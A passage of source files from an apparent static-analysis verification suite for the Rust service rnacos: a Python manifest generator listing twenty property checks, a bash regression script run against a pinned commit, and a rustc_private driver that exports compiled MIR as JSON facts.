            'table over its branch conditions, per-route end-to-end evaluation of the middleware with the tables it consults, classification of the routed (percent-decoded) path, gRPC ignore list and dispatch guard table', 'route-DSL evaluation + table cross product + CFG truth-table walk', '3 C16'),
    'C17': ('console route table x permission tables x roles (exhaustive): login pass-logic truth table, exempt list, static-file bypass, '
            'role monotonicity, write-sink classification of handlers per role', 'table cross product + call-graph sink classification', '3 C17'),
    'C18': ('privilege predicates as exhaustive truth tables, every console data handler guarded by a privilege check or handing the '
            'session privilege to the listing, listing filters guarded, every listing producer that receives the privilege consults it, is_all() implies every key permitted, session privilege provenance', 'abstract interpretation + guard analysis over the route table', '3 C18'),
    'C19': ('high-water marks reach the sequence on all apply paths, snapshot stores the reserved end, single id source, SimpleSequence '
            'arithmetic by exhaustive small-grid interpretation, SeqGroup buffer order by exhaustive interpretation over its state classes, range results taken from the replicated reply; start-up returns only after a round trip through the restoring StateApplyManager (restore registered with wait); a failed publish resets the local id reservation', 'taint + sibling forms + abstract interpretation', '3 C19'),
    'C20': ('varint writer/reader/size agreement for ALL u64 by exhaustive abstract interpretation of MIR over 65 leading-bit classes; '
            'buffer reads guarded by and bounded to the valid end; is_empty truth table; end-marker test; consumer alternation; reads into data-sized buffers repeat until full; an incomplete record leads back to a read in every chunk consumer (header included)', 'abstract interpretation (bit provenance) + guard analysis', '3 C20'),
}


# clauses added in round 7 (appended to the claimed text of the property)
EXTRA = {
    'C01': 'namespace snapshot written in the served order; the snapshot cut is serialised against applies (known finding R01z); the start-up replay range includes last_applied_log; a full history of 100 entries survives the full-value path',
    'C03': 'delete_logs_from answers Ok only behind the strip request; while a truncation leaves the recorded end of a re-opened file stale, reads do not use it to leave a file out',
    'C04': 'a short length-prefix peek is end-of-stream only when it is empty',
    'C05': 'the start-up replay writes no membership / address',
    'C06': 'the snapshot install future is serialised with the applies that follow; the replay skips no entry after a compaction',
    'C07': 'the live MCP key index is maintained like the rebuilt one; apply handlers draw from no random source (crate-wide closure); a tmp entry is compared with the applied content; a follower batch is judged against the messages state actors send each other (known finding R07n)',
    'C08': 'a namespace record of an installed snapshot replaces the stored entry (constant-flag propagation into set_namespace); the split-off bound of an installation is constant; a snapshot id is handed out once (known finding R08q); namespace records precede config records; a snapshot file is read to its end (is_end only by literal)',
    'C09': 'page arithmetic on request values is total (no checked +,-,* and no unguarded division on page number / size), every write entry point checks that the key survives its stored form, set_tmp_config never replaces an entry; applied entry fields reach set_config unchanged; the decoder hands the whole history on',
    'C10': 'the listener notify loop has no early exit; an empty word of the listener string is a word',
    'C11': 'every non-ephemeral removal clears the persistent set',
    'C12': 'stored flags are kept only for the same owner; a client-requested removal of a copy held for another node is announced; the protect threshold is decided over the answered list; a late probe result does not flip an ephemeral instance (borrowed)',
    'C13': 'a queued change always supersedes the queued heartbeat copy of the same instance; the own-copy skip of receive_snapshot ignores time stamps; a heartbeat is addressed to the group its parameter names; an in-range HTTP instance is claimed whether it arrives from a client or from a sync',
    'C14': 'the cached owner range is kept only when it equals the freshly computed one; a write for a remote owner is never applied locally; without an assigned range nothing is claimed',
    'C15': "a snapshot query is answered with the asking node's range too; retry pause below flush period (sibling constants); sync requests to one peer are serialised; no float field of a sync payload is decoded by the derived decoder; the anti-entropy round compares sets",
    'C16': 'a token is valid only behind a deadline check at read time',
    'C17': 'grants reach the matcher as written and the request path / method as sent; a session is valid only behind a deadline check at read time',
    'C18': 'the decoder of the stored user record always hands both namespace lists on; the privilege group crosses JSON without loss (derive output)',
    'C19': 'every id answered by the sequence manager is a draw from the key buffer; an overtaken reservation is dropped',
    'C20': 'the carry-to-front helper moves every unread byte (interpretation over all (len, start) up to 7 with slice / iterator models); read_buf into a capacity-sized buffer counts as a single read',
}

NOT_YET = {}


def main():
    props = [json.loads(l) for l in open(os.path.join(HERE, 'properties.jsonl'))]
    checks = []
    na = []
    for p in props:
        pid = p['id']
        if pid in CLAIMED:
            what, tech, ref = CLAIMED[pid]
            if pid in EXTRA:
                what = what + '; ' + EXTRA[pid]
            checks.append({
                'property_id': pid,
                'quick_cmd': './check %s --tier quick' % pid,
                'thorough_cmd': './check %s --tier thorough' % pid,
                'evidence_file': 'evidence/%s.json' % pid,
                'replay_cmd_template': './check %s --replay {path}' % pid,
                'engine': 'rnfacts+rules',
                'level_claimed': {
                    'category': 'other',
                    'text': 'Static, repository-specific rules over the compiled program (MIR of /repo\'s current working tree). Decides named '
                            'necessary conditions of the property - ' + what + ' - on every run and for every path through the analysed functions; '
                            'it does not decide the behavioural remainder (see DESIGN.md section ' + ref + ' "Does not decide"). This is the level a '
                            'static technique can honestly reach for a property quantified over histories/crash points.',
                    'design_ref': 'DESIGN.md section ' + ref,
                },
                'level_note': 'Trusted: rustc nightly name/type resolution and MIR construction; the rnfacts driver; the python primitives in rn/; the '
                              'frozen instance tables and floors in rules/. Anchors are def paths: a renamed anchor fails closed.',
                'technique': TECH % tech,
            })
        else:
            na.append({'property_id': pid, 'reason': NOT_YET.get(pid, 'static rules for this property are not armed in this revision; no claim is made')})
    m = {
        'version': 1,
        'setup_cmd': 'bin/setup.sh',
        'hooks': {
            'guard': 'rnacos_verif',
            'enable': 'no hooks are needed: the rustc_private driver reads private items directly (informational: RUSTFLAGS="--cfg rnacos_verif" is reserved)',
            'baseline_off_cmd': 'cd /repo && cargo test --workspace --no-fail-fast --offline',
            'source_commits': [],
            'add_only': True,
        },
        'engines': [
            {'name': 'rnfacts', 'path': 'driver/', 'serves_properties': sorted(CLAIMED), 'kind_free_text': 'rustc_private driver (nightly) dumping mir_promoted of every body of the rnacos lib+bin as JSON facts: resolved callees, field names, evaluated constants'},
            {'name': 'rules', 'path': 'rules/', 'serves_properties': sorted(CLAIMED), 'kind_free_text': 'python3 analysis library rn/ (CFG dominance, edge guards, taint, call graph with actix message edges, abstract interpreter) + one rule file per property'},
        ],
        'checks': checks,
        'notes': 'All checks share one fact extraction per working-tree state (cached by content hash under .cache/). Known findings / fixed defects: KNOWN_FINDINGS.txt. '
                 'Fix commits in /repo are listed there with their hashes.',
        'not_applicable': na,
    }
    with open(os.path.join(HERE, 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)
    print('MANIFEST.json: %d checks, %d not_applicable' % (len(checks), len(na)))


if __name__ == '__main__':
    main()
