#!/bin/bash
# pinned_regression.sh : every `fixed:` key of KNOWN_FINDINGS.txt must be reported again on a worktree of the pinned commit 41a5f6e
# (regression of the rules against the real defects). Creates /tmp/pinned if missing; remove it afterwards with
#   git -C /repo worktree remove --force /tmp/pinned
cd /verif
[ -d /tmp/pinned ] || git -C /repo worktree add --detach /tmp/pinned 41a5f6e -q
[ -f /tmp/pinned/Cargo.lock ] || cp /repo/Cargo.lock /tmp/pinned/
./check all --repo /tmp/pinned --no-write > /tmp/pinned_check.log 2>&1
python3 - <<'EOF'
import re
fixed=set()
for l in open('/verif/KNOWN_FINDINGS.txt'):
    m=re.match(r'fixed: property=(C\d+) ([0-9a-f]{7}) key=(.*?) \| ',l)
    if m: fixed.add((m.group(1),m.group(3)))
seen=set()
for l in open('/tmp/pinned_check.log'):
    m=re.match(r'(R\d+[a-z]:.*?) at (src/|-)',l)
    if m: seen.add(m.group(1))
miss=[(p,k) for (p,k) in sorted(fixed) if k not in seen]
print('%d fixed keys; %d not reported on the pinned tree' % (len(fixed), len(miss)))
for m in miss: print('  MISSING', m)
EOF
