// rnfacts: rustc_private driver that dumps a JSON fact base (built MIR of every body owner of the
// local crate, with resolved callees, field names, evaluated constants) for the python rules.
// Used as RUSTC_WORKSPACE_WRAPPER: argv = [rnfacts, <rustc path>, rustc args...].
#![feature(rustc_private)]
#![allow(clippy::all)]

extern crate rustc_abi;
extern crate rustc_driver;
extern crate rustc_hir;
extern crate rustc_interface;
extern crate rustc_middle;
extern crate rustc_span;

use rustc_driver::Compilation;
use rustc_hir::def::DefKind;
use rustc_hir::def_id::DefId;
use rustc_interface::interface::Compiler;
use rustc_middle::mir::{
    self, AggregateKind, BasicBlock, Body, Const, ConstValue, Operand, Place, ProjectionElem,
    Rvalue, StatementKind, TerminatorKind,
};
use rustc_middle::ty::print::{with_crate_prefix, with_no_trimmed_paths};
use rustc_middle::ty::{self, Instance, Ty, TyCtxt, TypeVisitableExt, TypingEnv};
use rustc_span::Span;
use std::fmt::Write as _;

// ------------------------------------------------------------------------------------------------
// tiny JSON writer

fn esc(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

fn js(s: &str) -> String {
    let mut o = String::new();
    esc(s, &mut o);
    o
}

fn arr(items: Vec<String>) -> String {
    let mut o = String::from("[");
    for (i, it) in items.iter().enumerate() {
        if i > 0 {
            o.push(',');
        }
        o.push_str(it);
    }
    o.push(']');
    o
}

fn obj(items: Vec<(&str, String)>) -> String {
    let mut o = String::from("{");
    for (i, (k, v)) in items.iter().enumerate() {
        if i > 0 {
            o.push(',');
        }
        esc(k, &mut o);
        o.push(':');
        o.push_str(v);
    }
    o.push('}');
    o
}

// ------------------------------------------------------------------------------------------------

struct Cx<'tcx> {
    tcx: TyCtxt<'tcx>,
}

fn path<'tcx>(tcx: TyCtxt<'tcx>, did: DefId) -> String {
    with_no_trimmed_paths!(with_crate_prefix!(tcx.def_path_str(did)))
}

fn ty_str<'tcx>(t: Ty<'tcx>) -> String {
    with_no_trimmed_paths!(with_crate_prefix!(format!("{}", t)))
}

impl<'tcx> Cx<'tcx> {
    fn loc(&self, span: Span) -> (String, usize, bool) {
        let exp = span.from_expansion();
        let sp = span.source_callsite();
        let sm = self.tcx.sess.source_map();
        let p = sm.lookup_char_pos(sp.lo());
        let name = format!("{}", p.file.name.prefer_local_unconditionally());
        (name, p.line, exp)
    }

    fn place(&self, body: &Body<'tcx>, pl: &Place<'tcx>) -> String {
        let tcx = self.tcx;
        let mut pty = mir::PlaceTy::from_ty(body.local_decls[pl.local].ty);
        let mut projs = Vec::new();
        for elem in pl.projection.iter() {
            let s = match elem {
                ProjectionElem::Deref => js("*"),
                ProjectionElem::Field(f, _) => {
                    let mut name = format!("{}", f.index());
                    let mut owner = String::new();
                    match pty.ty.kind() {
                        ty::Adt(adt, _) => {
                            let v = pty.variant_index.unwrap_or(rustc_abi::FIRST_VARIANT);
                            if adt.variants().len() > v.index() {
                                let vd = adt.variant(v);
                                if vd.fields.len() > f.index() {
                                    name = vd.fields[f].name.to_string();
                                }
                                owner = path(tcx, adt.did());
                                if adt.is_enum() {
                                    owner.push_str("::");
                                    owner.push_str(vd.name.as_str());
                                }
                            }
                        }
                        ty::Closure(d, _) | ty::Coroutine(d, _) | ty::CoroutineClosure(d, _) => {
                            owner = format!("upvar:{}", path(tcx, *d));
                        }
                        _ => {}
                    }
                    obj(vec![("f", js(&name)), ("o", js(&owner))])
                }
                ProjectionElem::Index(l) => obj(vec![("ix", format!("{}", l.index()))]),
                ProjectionElem::ConstantIndex { offset, from_end, .. } => obj(vec![
                    ("cix", format!("{}", offset)),
                    ("fe", format!("{}", from_end)),
                ]),
                ProjectionElem::Subslice { from, to, from_end } => obj(vec![
                    ("sub", arr(vec![format!("{}", from), format!("{}", to)])),
                    ("fe", format!("{}", from_end)),
                ]),
                ProjectionElem::Downcast(name, v) => {
                    let n = match name {
                        Some(s) => s.to_string(),
                        None => format!("{}", v.index()),
                    };
                    obj(vec![("dc", js(&n))])
                }
                ProjectionElem::OpaqueCast(_) => js("opaque"),
                ProjectionElem::UnwrapUnsafeBinder(_) => js("unbind"),
            };
            projs.push(s);
            pty = pty.projection_ty(tcx, elem);
        }
        if projs.is_empty() {
            format!("{}", pl.local.index())
        } else {
            obj(vec![("l", format!("{}", pl.local.index())), ("p", arr(projs))])
        }
    }

    fn constant(&self, owner: DefId, c: &Const<'tcx>) -> String {
        let tcx = self.tcx;
        let ty = c.ty();
        let mut items: Vec<(&str, String)> = Vec::new();
        match ty.kind() {
            ty::FnDef(did, args) => {
                items.push(("fn", self.callee(owner, *did, args)));
                return obj(items);
            }
            _ => {}
        }
        items.push(("ty", js(&ty_str(ty))));
        if let Const::Unevaluated(u, _) = c {
            if u.promoted.is_none() {
                items.push(("name", js(&path(tcx, u.def))));
            } else {
                items.push(("promoted", format!("{}", u.promoted.unwrap().index())));
            }
        }
        if c.has_non_region_param() {
            return obj(items);
        }
        let env = TypingEnv::post_analysis(tcx, owner);
        let is_promoted = matches!(c, Const::Unevaluated(u, _) if u.promoted.is_some());
        if is_promoted {
            return obj(items);
        }
        let val = match c {
            Const::Val(v, _) => Some(*v),
            _ => c.eval(tcx, env, rustc_span::DUMMY_SP).ok(),
        };
        if let Some(v) = val {
            match v {
                ConstValue::Scalar(sc) => {
                    // &[u8; N] constants (e.g. compiled format_args templates): dump the bytes
                    if let ty::Ref(_, inner, _) = ty.kind() {
                        if let ty::Array(elem, _) = inner.kind() {
                            if *elem == tcx.types.u8 {
                                if let rustc_middle::mir::interpret::Scalar::Ptr(ptr, _) = sc {
                                    let (prov, off) = ptr.prov_and_relative_offset();
                                    if let Some(rustc_middle::mir::interpret::GlobalAlloc::Memory(a)) = tcx.try_get_global_alloc(prov.alloc_id()) {
                                        let a = a.inner();
                                        let start = off.bytes() as usize;
                                        if start <= a.len() {
                                            let bytes = a.inspect_with_uninit_and_ptr_outside_interpreter(start..a.len());
                                            let l: Vec<String> = bytes.iter().map(|b| format!("{}", b)).collect();
                                            items.push(("bytes", arr(l)));
                                        }
                                    }
                                }
                            }
                        }
                    }
                    if let Some(si) = v.try_to_scalar_int() {
                        let size = si.size();
                        let bits = si.to_bits(size);
                        let s = match ty.kind() {
                            ty::Int(_) => {
                                let sh = 128 - size.bits();
                                let sv = if sh >= 128 { 0 } else { ((bits as i128) << sh) >> sh };
                                format!("{}", sv)
                            }
                            ty::Bool => (if bits != 0 { "true" } else { "false" }).to_string(),
                            _ => format!("{}", bits),
                        };
                        items.push(("v", s));
                    }
                }
                ConstValue::ZeroSized => {
                    items.push(("zst", "true".into()));
                }
                ConstValue::Slice { .. } | ConstValue::Indirect { .. } => {
                    let is_str = match ty.kind() {
                        ty::Ref(_, inner, _) => {
                            inner.is_str()
                                || matches!(inner.kind(), ty::Slice(e) if *e == tcx.types.u8)
                        }
                        _ => false,
                    };
                    if is_str {
                        if let Some(bytes) = v.try_get_slice_bytes_for_diagnostics(tcx) {
                            let s = String::from_utf8_lossy(bytes).to_string();
                            items.push(("s", js(&s)));
                        }
                    }
                }
            }
        }
        obj(items)
    }

    fn callee(&self, owner: DefId, did: DefId, args: ty::GenericArgsRef<'tcx>) -> String {
        let tcx = self.tcx;
        let mut items: Vec<(&str, String)> = Vec::new();
        items.push(("d", js(&path(tcx, did))));
        let a: Vec<String> = args
            .iter()
            .filter(|g| g.as_region().is_none())
            .map(|g| js(&with_no_trimmed_paths!(with_crate_prefix!(format!("{}", g)))))
            .collect();
        if !a.is_empty() {
            items.push(("a", arr(a)));
        }
        // the full path with generic args, e.g. <A as Handler<M>>::handle
        let full = with_no_trimmed_paths!(with_crate_prefix!(tcx.def_path_str_with_args(did, args)));
        items.push(("full", js(&full)));
        let kind = tcx.def_kind(did);
        if matches!(kind, DefKind::Fn | DefKind::AssocFn) && !args.has_non_region_param() && !args.has_infer() {
            let env = TypingEnv::post_analysis(tcx, owner);
            if let Ok(Some(inst)) = Instance::try_resolve(tcx, env, did, args) {
                let rd = inst.def_id();
                if rd != did {
                    items.push(("r", js(&path(tcx, rd))));
                    let rfull = with_no_trimmed_paths!(with_crate_prefix!(
                        tcx.def_path_str_with_args(rd, inst.args)
                    ));
                    items.push(("rfull", js(&rfull)));
                }
                if rd.is_local() {
                    items.push(("local", "true".into()));
                }
            }
        } else if did.is_local() {
            items.push(("local", "true".into()));
        }
        if let Some(tr) = tcx.trait_of_assoc(did) {
            items.push(("trait", js(&path(tcx, tr))));
        }
        obj(items)
    }

    fn operand(&self, owner: DefId, body: &Body<'tcx>, op: &Operand<'tcx>) -> String {
        match op {
            Operand::Copy(p) => obj(vec![("cp", self.place(body, p))]),
            Operand::Move(p) => obj(vec![("mv", self.place(body, p))]),
            Operand::Constant(c) => obj(vec![("c", self.constant(owner, &c.const_))]),
            _ => obj(vec![("rt", "true".into())]),
        }
    }

    fn rvalue(&self, owner: DefId, body: &Body<'tcx>, rv: &Rvalue<'tcx>) -> String {
        let tcx = self.tcx;
        match rv {
            Rvalue::Use(op, ..) => obj(vec![("k", js("use")), ("op", self.operand(owner, body, op))]),
            Rvalue::Repeat(op, _) => {
                obj(vec![("k", js("repeat")), ("op", self.operand(owner, body, op))])
            }
            Rvalue::Ref(_, bk, p) => obj(vec![
                ("k", js("ref")),
                ("mut", format!("{}", matches!(bk, mir::BorrowKind::Mut { .. }))),
                ("pl", self.place(body, p)),
            ]),
            Rvalue::RawPtr(_, p) => obj(vec![("k", js("rawptr")), ("pl", self.place(body, p))]),
            Rvalue::Cast(ck, op, t) => obj(vec![
                ("k", js("cast")),
                ("ck", js(&format!("{:?}", ck))),
                ("op", self.operand(owner, body, op)),
                ("ty", js(&ty_str(*t))),
            ]),
            Rvalue::BinaryOp(bop, ops) => obj(vec![
                ("k", js("bin")),
                ("op", js(&format!("{:?}", bop))),
                ("a", self.operand(owner, body, &ops.0)),
                ("b", self.operand(owner, body, &ops.1)),
            ]),
            Rvalue::UnaryOp(uop, op) => obj(vec![
                ("k", js("un")),
                ("op", js(&format!("{:?}", uop))),
                ("a", self.operand(owner, body, op)),
            ]),
            Rvalue::Discriminant(p) => {
                let pty = p.ty(body, tcx).ty;
                let mut items = vec![("k", js("discr")), ("pl", self.place(body, p))];
                if let ty::Adt(adt, _) = pty.kind() {
                    if adt.is_enum() {
                        items.push(("adt", js(&path(tcx, adt.did()))));
                        let vs: Vec<String> = adt
                            .discriminants(tcx)
                            .map(|(vi, d)| {
                                arr(vec![format!("{}", d.val), js(adt.variant(vi).name.as_str())])
                            })
                            .collect();
                        items.push(("variants", arr(vs)));
                    }
                }
                obj(items)
            }
            Rvalue::Aggregate(kind, ops) => {
                let mut items = vec![("k", js("agg"))];
                match &**kind {
                    AggregateKind::Array(_) => items.push(("ak", js("array"))),
                    AggregateKind::Tuple => items.push(("ak", js("tuple"))),
                    AggregateKind::Adt(did, vi, _, _, active) => {
                        items.push(("ak", js("adt")));
                        let adt = tcx.adt_def(*did);
                        items.push(("adt", js(&path(tcx, *did))));
                        let vd = adt.variant(*vi);
                        items.push(("variant", js(vd.name.as_str())));
                        let names: Vec<String> = if let Some(a) = active {
                            vec![js(vd.fields[*a].name.as_str())]
                        } else {
                            vd.fields.iter().map(|f| js(f.name.as_str())).collect()
                        };
                        items.push(("fields", arr(names)));
                    }
                    AggregateKind::Closure(did, _) => {
                        items.push(("ak", js("closure")));
                        items.push(("def", js(&path(tcx, *did))));
                    }
                    AggregateKind::Coroutine(did, _) => {
                        items.push(("ak", js("coroutine")));
                        items.push(("def", js(&path(tcx, *did))));
                    }
                    AggregateKind::CoroutineClosure(did, _) => {
                        items.push(("ak", js("coroutine_closure")));
                        items.push(("def", js(&path(tcx, *did))));
                    }
                    AggregateKind::RawPtr(..) => items.push(("ak", js("rawptr"))),
                }
                let o: Vec<String> = ops.iter().map(|op| self.operand(owner, body, op)).collect();
                items.push(("ops", arr(o)));
                obj(items)
            }
            Rvalue::CopyForDeref(p) => {
                obj(vec![("k", js("use")), ("op", obj(vec![("cp", self.place(body, p))]))])
            }
            Rvalue::ThreadLocalRef(d) => obj(vec![("k", js("tls")), ("def", js(&path(tcx, *d)))]),
            _ => obj(vec![("k", js("other")), ("dbg", js(&format!("{:?}", rv)))]),
        }
    }

    fn body(&self, def: rustc_hir::def_id::LocalDefId, body: &Body<'tcx>) -> String {
        let tcx = self.tcx;
        let owner = def.to_def_id();
        let mut items: Vec<(&str, String)> = Vec::new();
        items.push(("def", js(&path(tcx, owner))));
        let kind = tcx.def_kind(owner);
        items.push(("kind", js(&format!("{:?}", kind))));
        if tcx.is_closure_like(owner) {
            let parent = tcx.parent(owner);
            items.push(("parent", js(&path(tcx, parent))));
            if tcx.coroutine_kind(owner).is_some() {
                items.push(("coroutine", js(&format!("{:?}", tcx.coroutine_kind(owner).unwrap()))));
            }
        }
        let (file, line, _) = self.loc(body.span);
        items.push(("file", js(&file)));
        items.push(("line", format!("{}", line)));
        let sm = tcx.sess.source_map();
        let endp = sm.lookup_char_pos(body.span.source_callsite().hi());
        items.push(("end_line", format!("{}", endp.line)));
        items.push(("argc", format!("{}", body.arg_count)));
        if matches!(kind, DefKind::AssocFn) {
            let imp = tcx.parent(owner);
            if let DefKind::Impl { of_trait } = tcx.def_kind(imp) {
                let self_ty = tcx.type_of(imp).instantiate_identity().skip_norm_wip();
                items.push(("self_ty", js(&ty_str(self_ty))));
                if of_trait {
                    let tr = tcx.impl_trait_ref(imp).instantiate_identity().skip_norm_wip();
                    items.push(("trait", js(&path(tcx, tr.def_id))));
                    let targs: Vec<String> = tr
                        .args
                        .iter()
                        .skip(1)
                        .filter(|g| g.as_region().is_none())
                        .map(|g| js(&with_no_trimmed_paths!(with_crate_prefix!(format!("{}", g)))))
                        .collect();
                    items.push(("trait_args", arr(targs)));
                }
            }
        }
        if matches!(kind, DefKind::Fn | DefKind::AssocFn) {
            items.push(("vis", js(&format!("{:?}", tcx.visibility(owner)))));
        }
        // locals
        let mut names: Vec<Option<String>> = vec![None; body.local_decls.len()];
        for vdi in body.var_debug_info.iter() {
            if let mir::VarDebugInfoContents::Place(p) = &vdi.value {
                if p.projection.is_empty() {
                    names[p.local.index()] = Some(vdi.name.to_string());
                }
            }
        }
        let locals: Vec<String> = body
            .local_decls
            .iter_enumerated()
            .map(|(l, d)| {
                let mut it = vec![("t", js(&ty_str(d.ty)))];
                if let Some(n) = &names[l.index()] {
                    it.push(("n", js(n)));
                }
                obj(it)
            })
            .collect();
        items.push(("locals", arr(locals)));
        // upvar debug names (closure captures): name -> projection string
        let mut upv = Vec::new();
        for vdi in body.var_debug_info.iter() {
            if let mir::VarDebugInfoContents::Place(p) = &vdi.value {
                if !p.projection.is_empty() {
                    upv.push(obj(vec![("n", js(vdi.name.as_str())), ("pl", self.place(body, p))]));
                }
            }
        }
        if !upv.is_empty() {
            items.push(("upvars", arr(upv)));
        }
        // blocks
        let mut blocks = Vec::new();
        for (_bb, data) in body.basic_blocks.iter_enumerated() {
            let mut stmts = Vec::new();
            for st in data.statements.iter() {
                let (_, line, exp) = self.loc(st.source_info.span);
                match &st.kind {
                    StatementKind::Assign(b) => {
                        let (pl, rv) = &**b;
                        let mut it = vec![
                            ("d", self.place(body, pl)),
                            ("rv", self.rvalue(owner, body, rv)),
                            ("ln", format!("{}", line)),
                        ];
                        if exp {
                            it.push(("x", "1".into()));
                        }
                        stmts.push(obj(it));
                    }
                    StatementKind::SetDiscriminant { place, variant_index } => {
                        stmts.push(obj(vec![
                            ("setdiscr", self.place(body, place)),
                            ("v", format!("{}", variant_index.index())),
                            ("ln", format!("{}", line)),
                        ]));
                    }
                    _ => {}
                }
            }
            let term = data.terminator();
            let (_, tline, texp) = self.loc(term.source_info.span);
            let mut t: Vec<(&str, String)> = Vec::new();
            let bbs = |b: &BasicBlock| format!("{}", b.index());
            match &term.kind {
                TerminatorKind::Goto { target } => {
                    t.push(("k", js("goto")));
                    t.push(("t", bbs(target)));
                }
                TerminatorKind::SwitchInt { discr, targets } => {
                    t.push(("k", js("switch")));
                    t.push(("discr", self.operand(owner, body, discr)));
                    let vs: Vec<String> = targets
                        .iter()
                        .map(|(v, b)| arr(vec![format!("{}", v), bbs(&b)]))
                        .collect();
                    t.push(("targets", arr(vs)));
                    t.push(("otherwise", bbs(&targets.otherwise())));
                }
                TerminatorKind::Return => t.push(("k", js("return"))),
                TerminatorKind::Unreachable => t.push(("k", js("unreachable"))),
                TerminatorKind::UnwindResume => t.push(("k", js("resume"))),
                TerminatorKind::UnwindTerminate(_) => t.push(("k", js("abort"))),
                TerminatorKind::Drop { place, target, .. } => {
                    t.push(("k", js("drop")));
                    t.push(("pl", self.place(body, place)));
                    t.push(("t", bbs(target)));
                }
                TerminatorKind::Call { func, args, destination, target, fn_span, .. } => {
                    t.push(("k", js("call")));
                    match func {
                        Operand::Constant(c) => {
                            if let ty::FnDef(did, ga) = c.const_.ty().kind() {
                                t.push(("f", self.callee(owner, *did, ga)));
                            } else {
                                t.push(("fop", self.operand(owner, body, func)));
                            }
                        }
                        _ => {
                            t.push(("fop", self.operand(owner, body, func)));
                            let fty = func.ty(body, tcx);
                            t.push(("fty", js(&ty_str(fty))));
                        }
                    }
                    let a: Vec<String> =
                        args.iter().map(|a| self.operand(owner, body, &a.node)).collect();
                    t.push(("args", arr(a)));
                    t.push(("dst", self.place(body, destination)));
                    if let Some(tg) = target {
                        t.push(("t", bbs(tg)));
                    }
                    let (_, fl, _) = self.loc(*fn_span);
                    t.push(("fln", format!("{}", fl)));
                }
                TerminatorKind::TailCall { .. } => t.push(("k", js("tailcall"))),
                TerminatorKind::Assert { cond, expected, target, .. } => {
                    t.push(("k", js("assert")));
                    t.push(("cond", self.operand(owner, body, cond)));
                    t.push(("expected", format!("{}", expected)));
                    t.push(("t", bbs(target)));
                }
                TerminatorKind::Yield { value, resume, resume_arg, .. } => {
                    t.push(("k", js("yield")));
                    t.push(("val", self.operand(owner, body, value)));
                    t.push(("t", bbs(resume)));
                    t.push(("dst", self.place(body, resume_arg)));
                }
                TerminatorKind::CoroutineDrop => t.push(("k", js("cdrop"))),
                TerminatorKind::FalseEdge { real_target, imaginary_target } => {
                    t.push(("k", js("falseedge")));
                    t.push(("t", bbs(real_target)));
                    t.push(("imag", bbs(imaginary_target)));
                }
                TerminatorKind::FalseUnwind { real_target, .. } => {
                    t.push(("k", js("goto")));
                    t.push(("t", bbs(real_target)));
                }
                TerminatorKind::InlineAsm { .. } => t.push(("k", js("asm"))),
            }
            t.push(("ln", format!("{}", tline)));
            if texp {
                t.push(("x", "1".into()));
            }
            let mut b = vec![("s", arr(stmts)), ("t", obj(t))];
            if data.is_cleanup {
                b.push(("cleanup", "1".into()));
            }
            blocks.push(obj(b));
        }
        items.push(("blocks", arr(blocks)));
        obj(items)
    }
}

fn replace_crate(s: &str, with: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 16);
    let b = s.as_bytes();
    let pat = b"crate::";
    let mut i = 0;
    let mut last = 0;
    while i + pat.len() <= b.len() {
        if &b[i..i + pat.len()] == pat {
            let prev_ok = i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'_');
            if prev_ok {
                out.push_str(&s[last..i]);
                out.push_str(with);
                i += pat.len();
                last = i;
                continue;
            }
        }
        i += 1;
    }
    out.push_str(&s[last..]);
    out
}

struct Cb {
    out_dir: String,
}

impl rustc_driver::Callbacks for Cb {
    fn after_expansion<'tcx>(&mut self, _c: &Compiler, tcx: TyCtxt<'tcx>) -> Compilation {
        let crate_name = tcx.crate_name(rustc_hir::def_id::LOCAL_CRATE).to_string();
        let is_bin = tcx.crate_types().iter().any(|t| matches!(t, rustc_session_crate_type::Executable));
        let cx = Cx { tcx };
        let mut recs: Vec<String> = Vec::new();
        let mut skipped: Vec<String> = Vec::new();
        for def in tcx.hir_body_owners() {
            let did = def.to_def_id();
            let kind = tcx.def_kind(did);
            let is_fn_like = matches!(kind, DefKind::Fn | DefKind::AssocFn | DefKind::Closure);
            let is_static = matches!(kind, DefKind::Static { .. });
            if !is_fn_like && !is_static {
                continue;
            }
            let (steal, promoted) = tcx.mir_promoted(def);
            if steal.is_stolen() || promoted.is_stolen() {
                skipped.push(js(&path(tcx, did)));
                continue;
            }
            let body = steal.borrow();
            let proms = promoted.borrow();
            let mut rec = cx.body(def, &body);
            if !proms.is_empty() {
                let ps: Vec<String> = proms.iter().map(|pb| cx.body(def, pb)).collect();
                // splice "promoted":[...] into the record object
                rec.pop();
                rec.push_str(",\"promoted\":");
                rec.push_str(&arr(ps));
                rec.push('}');
            }
            recs.push(rec);
        }
        // adt table: enums with variants, structs with fields (local crate)
        let mut adts: Vec<String> = Vec::new();
        for id in tcx.hir_free_items() {
            let did = id.owner_id.to_def_id();
            match tcx.def_kind(did) {
                DefKind::Struct | DefKind::Enum => {
                    let adt = tcx.adt_def(did);
                    let vs: Vec<String> = adt
                        .variants()
                        .iter()
                        .map(|v| {
                            let fs: Vec<String> = v
                                .fields
                                .iter()
                                .map(|f| {
                                    let fty = tcx.type_of(f.did).instantiate_identity().skip_norm_wip();
                                    arr(vec![js(f.name.as_str()), js(&ty_str(fty))])
                                })
                                .collect();
                            obj(vec![("name", js(v.name.as_str())), ("fields", arr(fs))])
                        })
                        .collect();
                    adts.push(obj(vec![
                        ("def", js(&path(tcx, did))),
                        ("enum", format!("{}", adt.is_enum())),
                        ("variants", arr(vs)),
                    ]));
                }
                _ => {}
            }
        }
        let n = recs.len();
        let out = obj(vec![
            ("crate", js(&crate_name)),
            ("bin", format!("{}", is_bin)),
            ("nbodies", format!("{}", n)),
            ("skipped", arr(skipped)),
            ("adts", arr(adts)),
            ("bodies", arr(recs)),
        ]);
        let fname = format!(
            "{}/{}-{}.json",
            self.out_dir,
            crate_name,
            if is_bin { "bin" } else { "lib" }
        );
        let cname = if is_bin { format!("{}_bin::", crate_name) } else { format!("{}::", crate_name) };
        let out = replace_crate(&out, &cname);
        let tmp = format!("{}.tmp{}", fname, std::process::id());
        std::fs::write(&tmp, out).expect("write facts");
        std::fs::rename(&tmp, &fname).expect("rename facts");
        Compilation::Continue
